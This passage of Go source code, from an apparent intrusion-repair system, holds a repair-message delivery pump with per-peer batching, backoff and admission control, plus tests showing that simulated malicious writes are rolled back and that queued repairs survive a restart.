		t.Fatalf("admin grant repair refused: %d %s", resp.Status, resp.Body)
	}
	if got := string(call(t, bus, wire.NewRequest("GET", "/check").
		WithForm("svc", "crm", "user", "mallory")).Body); got != "" {
		t.Fatalf("grant survived repair: %q", got)
	}
}
