package core

import (
	"context"
	"fmt"
	"math"
	"time"

	"aire/internal/obs"
	"aire/internal/sched"
	"aire/internal/transport"
	"aire/internal/warp"
)

// This file implements the repair pump: the delivery engine behind the
// outgoing queue. A production deployment pumps queues continuously in the
// background (§3: repair propagates asynchronously and must ride out slow
// and offline peers), so delivery is organized around three ideas:
//
//   - Partitioning. The queue is partitioned by destination peer. Messages
//     to the same peer form one batch, delivered in FIFO order on a single
//     worker (the paper's per-service ordering requirement); batches to
//     distinct peers are independent and may run concurrently.
//
//   - Claim/reconcile. A delivery pass claims messages under qmu, delivers
//     against private snapshots with no locks held, and reconciles each
//     outcome under qmu. Retry, Drop, and queue collapsing may run at any
//     point in between: each PendingMsg carries a generation counter, and a
//     reconcile only applies to the generation it claimed — a message whose
//     content was superseded mid-flight simply stays queued for another
//     pass.
//
//   - Backoff. With Config.Backoff enabled, an unreachable peer is retried
//     on an exponential schedule read from an injectable clock instead of
//     parking its messages after MaxAttempts. Messages stay live; the
//     administrator is still notified once per outage.
//
// Flush runs exactly one synchronous pass, delivering batches serially in
// queue order — deterministic, for tests and Settle. StartPump runs passes
// continuously with a bounded worker pool, fanning batches out to distinct
// peers concurrently.

// Backoff configures the exponential retry schedule for unreachable peers.
// The zero value disables backoff, restoring the legacy behavior: each
// message is attempted every pass and parked (Held) after
// Config.MaxAttempts failures.
type Backoff struct {
	// Base is the delay after a peer's first failed delivery. Base > 0
	// enables backoff.
	Base time.Duration
	// Max caps the delay (0 means no cap).
	Max time.Duration
	// Factor multiplies the delay after each consecutive failure
	// (values < 1 are treated as 2).
	Factor float64
}

// Enabled reports whether backoff gating is active.
func (b Backoff) Enabled() bool { return b.Base > 0 }

// Delay returns the retry delay after n consecutive failures (n >= 1).
func (b Backoff) Delay(n int) time.Duration {
	if !b.Enabled() || n < 1 {
		return 0
	}
	f := b.Factor
	if f < 1 {
		f = 2
	}
	d := float64(b.Base)
	for i := 1; i < n; i++ {
		d *= f
		if b.Max > 0 && d >= float64(b.Max) {
			return b.Max
		}
		if d >= float64(math.MaxInt64) {
			// Uncapped schedules must not overflow time.Duration into a
			// negative delay that would disable the gate.
			return time.Duration(math.MaxInt64)
		}
	}
	if b.Max > 0 && d > float64(b.Max) {
		return b.Max
	}
	return time.Duration(d)
}

// DefaultBackoff returns the backoff schedule used by the production pump:
// 50ms doubling to a 5s cap. Pair it with StartPump — synchronous
// Settle/Flush loops honor the retry windows and may quiesce early while a
// peer backs off (see Settle's doc).
func DefaultBackoff() Backoff {
	return Backoff{Base: 50 * time.Millisecond, Max: 5 * time.Second, Factor: 2}
}

// Pump tuning defaults (Config fields left zero).
const (
	defaultPumpWorkers  = 4
	defaultBatchSize    = 16
	defaultPumpInterval = 25 * time.Millisecond
)

func (c *Controller) pumpWorkers() int {
	if c.Cfg.PumpWorkers > 0 {
		return c.Cfg.PumpWorkers
	}
	return defaultPumpWorkers
}

func (c *Controller) batchSize() int {
	if c.Cfg.BatchSize > 0 {
		return c.Cfg.BatchSize
	}
	return defaultBatchSize
}

func (c *Controller) pumpInterval() time.Duration {
	if c.Cfg.PumpInterval > 0 {
		return c.Cfg.PumpInterval
	}
	return defaultPumpInterval
}

// now reads the controller's clock (Config.Clock, or the wall clock).
func (c *Controller) now() time.Time {
	if c.Cfg.Clock != nil {
		return c.Cfg.Clock()
	}
	return time.Now()
}

// peerState tracks delivery health for one destination peer. Guarded by qmu.
type peerState struct {
	// inflight marks a claimed batch not yet reconciled; at most one batch
	// per peer is in flight, which is what preserves per-peer FIFO order.
	inflight bool
	// failures counts consecutive retryable delivery failures.
	failures int
	// nextTry gates delivery attempts while backing off.
	nextTry time.Time
	// notified marks that the administrator was told about this outage
	// (reset when the peer becomes reachable again).
	notified bool
	// limit is the per-peer claim limit the last claim used — the adaptive
	// batch policy's growth state. It survives successful reconciles while
	// the peer still has backlog and resets (entry deleted) once the peer
	// drains, which is exactly the policy's shrink-to-idle behavior.
	limit int
}

// peerKey names the destination a repair message is delivered to: the target
// service for repair calls, the notifier's host service (or polling client)
// for replace_response.
func peerKey(m warp.OutMsg) string {
	if m.Kind == warp.OutReplaceResponse {
		if clientID, ok := transport.ParsePollNotifierURL(m.NotifierURL); ok {
			return "poll://" + clientID
		}
		if svc, _, err := transport.ParseNotifierURL(m.NotifierURL); err == nil {
			return svc
		}
		return m.NotifierURL
	}
	return m.Target
}

// claimedBatch is one peer's slice of the queue, claimed for delivery.
type claimedBatch struct {
	peer string
	ptrs []*PendingMsg // live queue entries (reconciled under qmu)
	snap []PendingMsg  // private copies delivered without locks
	gens []uint64      // generation of each entry at claim time
	// limit is the batch's claim cap (0 = unbounded), resolved per peer.
	limit int
	// cascade marks a cascade-class batch (first message is a repair
	// carrier, not a replace_response); it holds one unit of the admission
	// MaxShare budget until the batch reconciles.
	cascade bool
}

// beginLiveCall / endLiveCall bracket one live (non-repair) outbound call
// to a peer; admission control reads the count at claim time to trickle
// repair delivery to peers that are actively serving live traffic. No-ops
// unless admission is enabled, keeping the live hot path lock-free.
func (c *Controller) beginLiveCall(peer string) {
	if !c.Cfg.Admission.Enabled() {
		return
	}
	c.qmu.Lock()
	c.liveCalls[peer]++
	c.qmu.Unlock()
}

func (c *Controller) endLiveCall(peer string) {
	if !c.Cfg.Admission.Enabled() {
		return
	}
	c.qmu.Lock()
	if c.liveCalls[peer]--; c.liveCalls[peer] <= 0 {
		delete(c.liveCalls, peer)
	}
	c.qmu.Unlock()
}

// peerBacklogs snapshots, for every peer with deliverable messages, how
// many are queued for it and the claim limit its previous batch used — the
// inputs the batch policy sizes the next claim from. Skipped peers
// (in-flight batch, backing off) are included: their limits are computed
// but unused this pass, which keeps the snapshot cheap and the policy
// stateless.
func (c *Controller) peerBacklogs() map[string][2]int {
	c.qmu.Lock()
	defer c.qmu.Unlock()
	m := map[string][2]int{}
	for _, p := range c.queue {
		if !p.queued || p.Held || p.inflight {
			continue
		}
		k := c.peerDest(p.Msg)
		v := m[k]
		v[0]++
		m[k] = v
	}
	for k, v := range m {
		if ps := c.peers[k]; ps != nil {
			v[1] = ps.limit
			m[k] = v
		}
	}
	return m
}

// batchLimits asks the configured batch policy for a per-peer claim limit.
// Called with no locks held — the limits are advisory caps applied at claim
// time, not a reservation.
func (c *Controller) batchLimits(backlogs map[string][2]int) map[string]int {
	pol := c.Cfg.BatchPolicy
	if pol == nil {
		return nil
	}
	limits := make(map[string]int, len(backlogs))
	for peer, v := range backlogs {
		limits[peer] = pol.Limit(v[0], v[1])
	}
	return limits
}

// claimBatches partitions the deliverable queue by peer and claims up to a
// per-peer limit of messages, preserving queue (FIFO) order within each
// batch. The limit for a peer is perPeer[peer] when present, else limit
// (0 = unbounded). Held messages, messages already in flight, peers with a
// batch in flight, and peers still backing off are skipped. With admit set
// (background pump passes only), the admission budgets also apply: peers
// with live outbound calls in flight are capped at Admission.Burst, and a
// new cascade-class batch is skipped entirely while the cascade worker
// budget is exhausted and response-class messages are waiting. Batches are
// returned in queue order of their first message.
func (c *Controller) claimBatches(limit int, perPeer map[string]int, admit bool) []*claimedBatch {
	now := c.now()
	adm := c.Cfg.Admission
	admit = admit && adm.Enabled()
	c.qmu.Lock()
	defer c.qmu.Unlock()
	// The MaxShare budget only bites while user-visible (response-class)
	// messages are actually waiting; one pre-pass answers that.
	respWaiting := false
	if admit && adm.MaxShare > 0 {
		for _, p := range c.queue {
			if p.queued && !p.Held && !p.inflight && p.Msg.Kind == warp.OutReplaceResponse {
				respWaiting = true
				break
			}
		}
	}
	var order []*claimedBatch
	byPeer := map[string]*claimedBatch{}
	skipPeer := map[string]bool{}
	for _, p := range c.queue {
		if !p.queued || p.Held || p.inflight {
			continue
		}
		peer := c.peerDest(p.Msg)
		if skipPeer[peer] {
			continue
		}
		cl, ok := byPeer[peer]
		if !ok {
			ps := c.peers[peer]
			if ps == nil {
				ps = &peerState{}
				c.peers[peer] = ps
			}
			if ps.inflight || (c.Cfg.Backoff.Enabled() && now.Before(ps.nextTry)) {
				skipPeer[peer] = true
				continue
			}
			cascade := p.Msg.Kind != warp.OutReplaceResponse
			if admit && cascade && respWaiting && c.cascadeInflight >= adm.maxCascade(c.pumpWorkers()) {
				// Cascade budget exhausted while responses wait: leave this
				// peer for a later pass so the reserved workers stay free
				// for the user-visible plane.
				skipPeer[peer] = true
				continue
			}
			l := limit
			if pl, ok := perPeer[peer]; ok {
				l = pl
			}
			if admit && adm.Burst > 0 && c.liveCalls[peer] > 0 && (l <= 0 || l > adm.Burst) {
				// The peer is serving our live traffic right now: trickle.
				l = adm.Burst
			}
			ps.inflight = true
			ps.limit = l
			if cascade && admit {
				c.cascadeInflight++
			}
			cl = &claimedBatch{peer: peer, limit: l, cascade: cascade && admit}
			byPeer[peer] = cl
			order = append(order, cl)
		}
		if cl.limit > 0 && len(cl.ptrs) >= cl.limit {
			continue
		}
		p.inflight = true
		cl.ptrs = append(cl.ptrs, p)
		cl.snap = append(cl.snap, *p)
		cl.gens = append(cl.gens, p.Gen)
	}
	for _, cl := range order {
		ids := make([]string, len(cl.ptrs))
		for i, p := range cl.ptrs {
			ids[i] = p.MsgID
		}
		c.walEmitClaimLocked(cl.peer, ids)
	}
	if c.met.reg != nil {
		claimNS := c.now().UnixNano()
		for _, cl := range order {
			for i := range cl.snap {
				s := &cl.snap[i]
				if s.TraceID == "" {
					continue
				}
				c.met.ring.Record(obs.Span{
					Wave: s.TraceID, Hop: s.TraceHop, Service: c.Svc.Name,
					Kind: obs.SpanClaim, Subject: s.DeliveryID, Peer: cl.peer,
					StartNS: claimNS, EndNS: claimNS,
				})
			}
		}
	}
	return order
}

// peerHasQueuedLocked reports whether any live queue entry is bound for the
// named peer.
func (c *Controller) peerHasQueuedLocked(peer string) bool {
	for _, q := range c.queue {
		if q.queued && c.peerDest(q.Msg) == peer {
			return true
		}
	}
	return false
}

// compactLocked drops dead entries (queued=false: delivered, gone) from the
// queue slice in one pass. Reconciliation only clears the flag, so a
// delivery pass costs one compaction per batch rather than one O(n) splice
// per delivered message.
func (c *Controller) compactLocked() {
	kept := c.queue[:0]
	for _, q := range c.queue {
		if q.queued {
			kept = append(kept, q)
		}
	}
	for i := len(kept); i < len(c.queue); i++ {
		c.queue[i] = nil
	}
	c.queue = kept
}

// deliverBatch delivers one claimed batch in FIFO order and reconciles each
// outcome. A peer-level failure (transport error: the peer is unreachable,
// so later messages would only repeat it) aborts the remainder of the batch
// and either advances the peer's backoff schedule or, with backoff
// disabled, charges a failed attempt to every remaining claimed message,
// parking those that exhaust MaxAttempts. A message-level failure (the peer
// answered, but with an unexpected status for this one message) charges
// only that message and the batch continues — one poisoned message must not
// block the peer's queue. Returns how many messages were delivered and
// removed.
func (c *Controller) deliverBatch(cl *claimedBatch) (delivered int) {
	var notes []Notification
	var heldMsgs []PendingMsg // parked in the final reconcile; emitted unlocked
	removed := 0              // dead entries this batch left in the queue slice
	failedAt := -1
	var failErr string

	for i := range cl.ptrs {
		c.sd.Yield()       // schedule point: about to deliver one claimed message
		snap := cl.snap[i] // private copy; deliver mutates LastErr/token
		// Span window around the wire call; pure clock reads either side,
		// no yields — instrumentation must not add schedule points.
		var dlvStart int64
		if c.met.reg != nil {
			dlvStart = c.now().UnixNano()
		}
		st := c.deliver(&snap)
		if c.met.reg != nil {
			dlvEnd := c.now().UnixNano()
			c.met.deliverNS.ObserveNS(dlvEnd - dlvStart)
			if snap.TraceID != "" {
				c.met.ring.Record(obs.Span{
					Wave: snap.TraceID, Hop: snap.TraceHop, Service: c.Svc.Name,
					Kind: obs.SpanDeliver, Subject: snap.DeliveryID, Peer: cl.peer,
					StartNS: dlvStart, EndNS: dlvEnd,
				})
			}
		}
		heldAttempts := 0

		// Gap NACKs get their own labeled decision point — but only in
		// vector mode, so vectors-off runs take byte-identical schedules.
		if snap.nacked && c.vectors != nil {
			c.sd.YieldNamed("vv-reoffer") // schedule point: peer NACKed a gap
		}

		c.sd.Yield() // schedule point: delivered, not yet reconciled
		c.qmu.Lock()
		p := cl.ptrs[i]
		// p.queued: still a live entry (it may have been Dropped since it
		// was claimed). fresh: the delivered content is still the queued
		// content. If a collapse or Retry replaced it mid-flight, the new
		// content must still go out, so the entry stays queued whatever
		// happened to the old one — and its reset LastErr is preserved.
		live := p.queued
		fresh := live && (p.Gen == cl.gens[i] || c.Cfg.FaultUngatedReconcile)
		if live {
			// Tokens are per-response and deliberately reused across
			// attempts and content revisions.
			p.token = snap.token
		}
		if fresh {
			p.LastErr = snap.LastErr
		}
		switch st {
		case deliverOK:
			if fresh {
				p.queued = false
				c.queueShrunkLocked()
				c.vvResolveLocked(cl.peer, p.DeliveryID)
				c.walEmitQDelLocked(p.MsgID)
				removed++
				delivered++
			} else if live {
				p.inflight = false
			}
		case deliverGone:
			if fresh {
				p.queued = false
				c.queueShrunkLocked()
				c.vvResolveLocked(cl.peer, p.DeliveryID)
				c.walEmitQDelLocked(p.MsgID)
				removed++
			} else if live {
				p.inflight = false
			}
		case deliverDenied:
			if live {
				if fresh {
					p.Held = true
					c.walEmitQSetLocked(p)
				}
				p.inflight = false
			}
		case deliverRetryMsg:
			// The peer is up but rejected this one message; charge it alone
			// and keep the batch going.
			if live {
				if fresh {
					p.Attempts++
					if p.Attempts >= c.Cfg.MaxAttempts {
						p.Held = true
						heldAttempts = p.Attempts
					}
					c.walEmitQSetLocked(p)
				}
				p.inflight = false
			}
		case deliverRetry:
			failedAt = i
			failErr = snap.LastErr
		}
		if snap.nacked {
			// The peer answered with a gap NACK: it is alive and missing a
			// delivery we still hold. Clear its backoff window and mark the
			// vector for re-offer stamping so the next pass (woken below)
			// re-delivers immediately instead of waiting out the schedule.
			c.vvNackLocked(cl.peer)
		}
		c.qmu.Unlock()

		// Reconcile span: the moment the claimed outcome was applied to the
		// queue entry. Subject stays the DeliveryID so obs.Waves can pair it
		// with the enqueue span for per-hop latency.
		if c.met.reg != nil && snap.TraceID != "" {
			recNS := c.now().UnixNano()
			c.met.ring.Record(obs.Span{
				Wave: snap.TraceID, Hop: snap.TraceHop, Service: c.Svc.Name,
				Kind: obs.SpanReconcile, Subject: snap.DeliveryID, Peer: cl.peer,
				StartNS: recNS, EndNS: recNS,
			})
		}

		switch st {
		case deliverOK:
			// Stale (superseded-in-flight) deliveries stay queued and land
			// again; count only the fresh one so stats match queue
			// accounting and the delivered return value.
			if fresh {
				c.smu.Lock()
				c.stats.MsgsDelivered++
				c.smu.Unlock()
				c.met.msgsDelivered.Inc()
				c.emit(EvMsgDelivered, snap.MsgID, "%s delivered to %s", snap.Msg.Kind, snap.Msg.Target)
			}
		case deliverGone:
			// Superseded-in-flight content stays queued for redelivery —
			// only a fresh outcome is terminal and worth reporting.
			if fresh {
				c.smu.Lock()
				c.stats.MsgsFailed++
				c.smu.Unlock()
				c.met.msgsFailed.Inc()
				notes = append(notes, Notification{
					MsgID: snap.MsgID, Kind: "gone", Target: snap.Msg.Target, RepairType: string(snap.Msg.Kind),
					Detail: "peer reports the request's logs were garbage-collected; repair is permanently unavailable: " + snap.LastErr,
				})
			}
		case deliverDenied:
			if fresh {
				c.emit(EvMsgHeld, snap.MsgID, "%s to %s held: unauthorized", snap.Msg.Kind, snap.Msg.Target)
				notes = append(notes, Notification{
					MsgID: snap.MsgID, Kind: "unauthorized", Target: snap.Msg.Target, RepairType: string(snap.Msg.Kind),
					Detail: "peer rejected repair message as unauthorized; refresh credentials and Retry: " + snap.LastErr,
				})
			}
		case deliverRetryMsg:
			if heldAttempts > 0 {
				// The peer is up; it rejected this one message. Distinct
				// from "unreachable" so the administrator debugs the
				// message, not connectivity.
				c.emit(EvMsgHeld, snap.MsgID, "%s to %s held: rejected after %d attempts", snap.Msg.Kind, snap.Msg.Target, heldAttempts)
				notes = append(notes, Notification{
					MsgID: snap.MsgID, Kind: "rejected", Target: snap.Msg.Target, RepairType: string(snap.Msg.Kind),
					Detail: fmt.Sprintf("peer rejected this message %d times; message held for Retry: %s", heldAttempts, snap.LastErr),
				})
			}
		}
		if st == deliverRetry {
			break
		}
	}

	c.sd.Yield() // schedule point: batch done, peer state not yet reconciled
	c.qmu.Lock()
	if removed > 0 {
		c.compactLocked()
	}
	if cl.cascade {
		c.cascadeInflight--
	}
	ps := c.peers[cl.peer]
	if failedAt >= 0 {
		ps.failures++
		if c.Cfg.Backoff.Enabled() {
			// Unreachable peers back off; their messages stay live. The
			// outage is tracked per peer (ps.failures), not charged to each
			// message's Attempts — otherwise a long outage would exhaust
			// every message's MaxAttempts budget and the first message-level
			// failure after recovery would park it instantly.
			ps.nextTry = c.now().Add(c.Cfg.Backoff.Delay(ps.failures))
			for j := failedAt; j < len(cl.ptrs); j++ {
				p := cl.ptrs[j]
				if !p.queued {
					continue
				}
				p.inflight = false
				if p.Gen == cl.gens[j] {
					p.LastErr = failErr
					c.walEmitQSetLocked(p)
				}
			}
			if ps.failures >= c.Cfg.MaxAttempts && !ps.notified {
				ps.notified = true
				notes = append(notes, Notification{
					Kind: "unreachable", Target: cl.peer, RepairType: string(cl.snap[failedAt].Msg.Kind),
					Detail: fmt.Sprintf("peer unreachable after %d attempts; retrying with backoff: %s", ps.failures, failErr),
				})
			}
		} else {
			// Legacy behavior: every remaining claimed message is charged a
			// failed attempt and parked once it exhausts MaxAttempts.
			for j := failedAt; j < len(cl.ptrs); j++ {
				p := cl.ptrs[j]
				if !p.queued {
					continue
				}
				p.inflight = false
				if p.Gen != cl.gens[j] && !c.Cfg.FaultUngatedReconcile {
					continue
				}
				p.Attempts++
				p.LastErr = failErr
				if p.Attempts >= c.Cfg.MaxAttempts {
					p.Held = true
					heldMsgs = append(heldMsgs, *p)
					notes = append(notes, Notification{
						MsgID: p.MsgID, Kind: "unreachable", Target: p.Msg.Target, RepairType: string(p.Msg.Kind),
						Detail: fmt.Sprintf("peer unreachable after %d attempts; message held for Retry: %s", p.Attempts, failErr),
					})
				}
				c.walEmitQSetLocked(p)
			}
		}
		ps.inflight = false
		// Backoff state is only meaningful while the peer still has
		// messages; if everything it had was dropped or terminated, drop
		// the bookkeeping too.
		if !c.peerHasQueuedLocked(cl.peer) {
			delete(c.peers, cl.peer)
		}
	} else {
		// The peer is healthy and its batch reconciled. While it still has
		// backlog, keep the entry (cleared to health) so the adaptive batch
		// limit carries into the next claim; once drained, drop it — the
		// zero state is equivalent to no entry, so per-peer bookkeeping
		// (e.g. one-shot poll:// clients) cannot accumulate forever, and the
		// batch limit resets to the policy's idle floor.
		ps.inflight = false
		ps.failures = 0
		ps.nextTry = time.Time{}
		ps.notified = false
		// A fully healthy reconcile means any gap the peer NACKed has been
		// re-offered; stop stamping the recovery mark.
		c.vvClearReofferLocked(cl.peer)
		if !c.peerHasQueuedLocked(cl.peer) {
			delete(c.peers, cl.peer)
		}
	}
	c.qmu.Unlock()

	for _, h := range heldMsgs {
		c.emit(EvMsgHeld, h.MsgID, "%s to %s held: unreachable after %d attempts", h.Msg.Kind, h.Msg.Target, h.Attempts)
	}
	for _, n := range notes {
		c.notify(n)
	}
	return delivered
}

// queueShrunkLocked records one live entry leaving the queue and wakes
// WaitQueueEmpty waiters when the last one goes. Callers hold qmu.
func (c *Controller) queueShrunkLocked() {
	c.qlive--
	c.met.queueDepth.Set(int64(c.qlive))
	if c.qlive == 0 {
		c.qcond.Broadcast()
	}
}

// WaitQueueEmpty blocks until the outgoing queue has no live messages (held
// or not) or the timeout elapses, reporting whether it emptied. It is the
// race-free way to wait out the background pump — tests and shutdown paths
// use it instead of sleep-polling QueueLen.
func (c *Controller) WaitQueueEmpty(timeout time.Duration) bool {
	deadline := time.Now().Add(timeout)
	expired := false
	timer := time.AfterFunc(timeout, func() {
		c.qmu.Lock()
		expired = true
		c.qmu.Unlock()
		c.qcond.Broadcast()
	})
	defer timer.Stop()
	c.qmu.Lock()
	defer c.qmu.Unlock()
	for c.qlive > 0 && !expired && time.Now().Before(deadline) {
		c.qcond.Wait()
	}
	return c.qlive == 0
}

// Flush attempts one synchronous delivery pass over the outgoing queue and
// reports how many messages were delivered and how many remain. Batches are
// delivered serially in queue order, so Flush (and Settle on top of it) is
// deterministic; the background pump started with StartPump runs the same
// passes with batches to distinct peers in flight concurrently. Messages to
// unavailable peers stay queued (§3: asynchronous repair); messages refused
// as unauthorized or permanently unavailable are parked or dropped with an
// application notification. With Config.Backoff enabled, peers inside
// their retry window are skipped — delivered can be 0 while remaining > 0;
// such messages drain on a later pass (or pump tick) once the window
// elapses.
func (c *Controller) Flush() (delivered, remaining int) {
	// Unbounded claim: one Flush attempts every deliverable message, as the
	// legacy serial Flush did; BatchSize, BatchPolicy, and Admission only
	// shape the background pump.
	for _, cl := range c.claimBatches(0, nil, false) {
		delivered += c.deliverBatch(cl)
	}
	return delivered, c.QueueLen()
}

// releaseBatches hands claimed-but-undispatched batches back to the queue:
// entries and peers are marked not-inflight so a later pass (or Flush) can
// claim them again. Used when the pump shuts down while waiting for a
// worker slot.
func (c *Controller) releaseBatches(batches []*claimedBatch) {
	c.qmu.Lock()
	defer c.qmu.Unlock()
	for _, cl := range batches {
		for _, p := range cl.ptrs {
			p.inflight = false
		}
		if ps := c.peers[cl.peer]; ps != nil {
			ps.inflight = false
		}
		if cl.cascade {
			c.cascadeInflight--
		}
	}
}

// wakePump nudges the background pump (non-blocking; no-op when the pump is
// not running). Callers may hold qmu: the pacer's Wake latches a flag (or
// does a non-blocking buffered send) and never blocks.
func (c *Controller) wakePump() {
	c.pumpMu.Lock()
	pacer := c.pumpPacer
	c.pumpMu.Unlock()
	if pacer != nil {
		pacer.Wake()
	}
}

// StartPump launches the background repair pump: a goroutine that delivers
// the outgoing queue continuously — on every enqueue, Retry, and at
// PumpInterval for backoff retries — fanning deliveries to distinct peers
// out over PumpWorkers concurrent workers while preserving per-peer FIFO
// order. With Config.BatchIncoming set, the pump also applies the incoming
// queue each pass (§3.2). The pump runs until ctx is cancelled or StopPump
// is called; either way the controller can StartPump again afterwards. It
// returns an error if the pump is already running.
func (c *Controller) StartPump(ctx context.Context) error {
	c.pumpMu.Lock()
	defer c.pumpMu.Unlock()
	if c.pumpCancel != nil {
		return fmt.Errorf("core: pump already running on %s", c.Svc.Name)
	}
	ctx, cancel := context.WithCancel(ctx)
	c.pumpCancel = cancel
	done := make(chan struct{})
	c.pumpDone = done
	pacer := c.sd.NewPacer(c.pumpInterval())
	c.pumpPacer = pacer
	c.sd.Go("pump:"+c.Svc.Name, func() { c.pumpLoop(ctx, done, pacer) })
	return nil
}

// StopPump stops the background pump and waits for in-flight deliveries to
// reconcile. It is a no-op if the pump is not running.
func (c *Controller) StopPump() {
	c.pumpMu.Lock()
	cancel, done := c.pumpCancel, c.pumpDone
	c.pumpCancel, c.pumpDone, c.pumpPacer = nil, nil, nil
	c.pumpMu.Unlock()
	if cancel == nil {
		return
	}
	cancel()
	<-done
}

// PumpRunning reports whether the background pump is active.
func (c *Controller) PumpRunning() bool {
	c.pumpMu.Lock()
	defer c.pumpMu.Unlock()
	return c.pumpCancel != nil
}

// StartPumps starts the background pump of every given controller and
// returns a stop function that shuts them all down again (waiting for
// in-flight deliveries to reconcile). If any pump fails to start — it is
// already running — the pumps started so far are stopped and the error
// returned.
func StartPumps(ctx context.Context, ctrls ...*Controller) (stop func(), err error) {
	for i, c := range ctrls {
		if err := c.StartPump(ctx); err != nil {
			for _, started := range ctrls[:i] {
				started.StopPump()
			}
			return nil, err
		}
	}
	return func() {
		for _, c := range ctrls {
			c.StopPump()
		}
	}, nil
}

// pumpLoop runs delivery passes continuously. Unlike Flush, a pass does
// not barrier on its batches: each claimed batch is handed to a worker
// slot and the loop immediately moves on, so one peer hanging for a full
// transport timeout cannot freeze delivery to other peers, periodic
// backoff retries, or StopPump's ability to decline further work. The
// per-peer and per-message inflight flags already make overlapping passes
// safe — claimBatches skips anything a slow worker still holds. StopPump
// still waits for workers holding claimed batches to reconcile.
//
// Every concurrency primitive comes from the controller's scheduler
// (Config.Sched): in production these are real goroutines, a channel
// semaphore, and a wall-clock ticker; under the deterministic simulator
// (internal/dsched) the same loop runs as a cooperative task whose worker
// interleavings and sleeps are chosen by a seeded schedule.
func (c *Controller) pumpLoop(ctx context.Context, done chan struct{}, pacer sched.Pacer) {
	wg := c.sd.NewGroup()
	defer func() {
		// Wait out in-flight deliveries so StopPump's "reconciled" promise
		// holds, then detach the lifecycle state so PumpRunning turns false
		// and StartPump works again without requiring a StopPump on an
		// already-dead pump. Detach before closing done: a waiter woken by
		// done must observe the pump as fully stopped.
		wg.Wait()
		pacer.Stop()
		c.pumpMu.Lock()
		if c.pumpDone == done {
			c.pumpCancel = nil
			c.pumpDone = nil
			c.pumpPacer = nil
		}
		c.pumpMu.Unlock()
		close(done)
	}()
	sem := c.sd.NewSem(c.pumpWorkers())
	for {
		c.sd.Yield() // schedule point: a pass is about to claim
		// Decide per-peer claim limits (adaptive batching) and admission
		// caps before claiming. Each decision sits at its own labeled yield
		// point, outside every lock, so the deterministic scheduler can
		// interleave enqueues, supersedes, and other pumps between the
		// snapshot and the claim that acts on it — the limits are advisory
		// caps, so any such race is benign.
		var limits map[string]int
		if c.Cfg.BatchPolicy != nil {
			backlogs := c.peerBacklogs()
			c.sd.YieldNamed("batch-policy") // schedule point: batch sizes decided
			limits = c.batchLimits(backlogs)
		}
		if c.Cfg.Admission.Enabled() {
			c.sd.YieldNamed("admission") // schedule point: admission caps about to apply
		}
		batches := c.claimBatches(c.batchSize(), limits, true)
		for i, cl := range batches {
			if !sem.Acquire(ctx) {
				// Shutting down with every worker busy: hand the remaining
				// claims back so nothing is stranded inflight.
				c.releaseBatches(batches[i:])
				return
			}
			wg.Add(1)
			cl := cl
			c.sd.Go("worker:"+c.Svc.Name+"->"+cl.peer, func() {
				defer wg.Done()
				c.deliverBatch(cl)
				sem.Release()
				// Capacity freed and (likely) a peer drained: nudge the
				// loop so that peer's next FIFO batch goes out promptly.
				c.wakePump()
			})
		}
		if c.Cfg.BatchIncoming {
			c.ProcessIncoming()
		}
		if !pacer.Wait(ctx) {
			return
		}
	}
}
