package persist_test

import (
	"bytes"
	"path/filepath"
	"testing"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/persist"
	"aire/internal/warp"
	"aire/internal/wire"
)

// buildState runs traffic on a mirrored pair and takes a (queued) repair:
// a writes to b, b goes offline, a repairs locally with a pending delete.
func buildState(t *testing.T) (*harness.Testbed, *core.Controller, string) {
	t.Helper()
	tb := harness.NewTestbed()
	a := tb.Add(&harness.KVApp{ServiceName: "a", Mirror: "b"}, core.DefaultConfig())
	tb.Add(&harness.KVApp{ServiceName: "b"}, core.DefaultConfig())

	tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "good"))
	attack := tb.MustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))
	tb.Settle(5)
	tb.SetOffline("b", true)
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	a.Flush()
	return tb, a, attack.Header[wire.HdrRequestID]
}

func TestSnapshotRoundTrip(t *testing.T) {
	_, a, _ := buildState(t)
	snap := persist.Capture(a)
	var buf bytes.Buffer
	if err := snap.Write(&buf); err != nil {
		t.Fatal(err)
	}
	got, err := persist.Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if got.Service != "a" {
		t.Fatalf("service = %q", got.Service)
	}
	if len(got.Records) != len(snap.Records) || len(got.Objects) != len(snap.Objects) || len(got.Queue) != len(snap.Queue) {
		t.Fatalf("round trip mismatch: %d/%d records, %d/%d objects, %d/%d queue",
			len(got.Records), len(snap.Records), len(got.Objects), len(snap.Objects), len(got.Queue), len(snap.Queue))
	}
	if got.ClockNow != snap.ClockNow || got.IDCounter != snap.IDCounter {
		t.Fatalf("clock/counter mismatch: %d/%d %d/%d", got.ClockNow, snap.ClockNow, got.IDCounter, snap.IDCounter)
	}
}

// TestRestartPreservesQueuedRepair is the headline durability property: a
// service restarts from its snapshot and still delivers the repair message
// that was queued for an offline peer.
func TestRestartPreservesQueuedRepair(t *testing.T) {
	tb, a, _ := buildState(t)
	path := filepath.Join(t.TempDir(), "a.snap")
	if err := persist.SaveFile(a, path); err != nil {
		t.Fatal(err)
	}

	// "Restart": a fresh controller for the same app, same bus.
	a2 := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, tb.Bus, core.DefaultConfig())
	if err := persist.LoadFile(a2, path); err != nil {
		t.Fatal(err)
	}
	tb.Bus.Register("a", a2) // replaces the old instance
	tb.Ctrls["a"] = a2

	if a2.QueueLen() != 1 {
		t.Fatalf("restored queue = %d, want 1", a2.QueueLen())
	}
	// State restored.
	if got := string(tb.Call("a", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("restored a = %q", got)
	}

	// The peer returns; before the queue drains it still holds the attack
	// value; after, it rolls back to the legitimate mirrored value.
	tb.SetOffline("b", false)
	if got := string(tb.Call("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "evil" {
		t.Fatalf("precondition: b should hold the attack value, got %q", got)
	}
	tb.Settle(10)
	if got := string(tb.Call("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("b not repaired from restored queue: %q", got)
	}
}

// TestRestartRemainsRepairable: a restored service can still repair its
// pre-restart requests (the log and versioned store survived).
func TestRestartRemainsRepairable(t *testing.T) {
	tb := harness.NewTestbed()
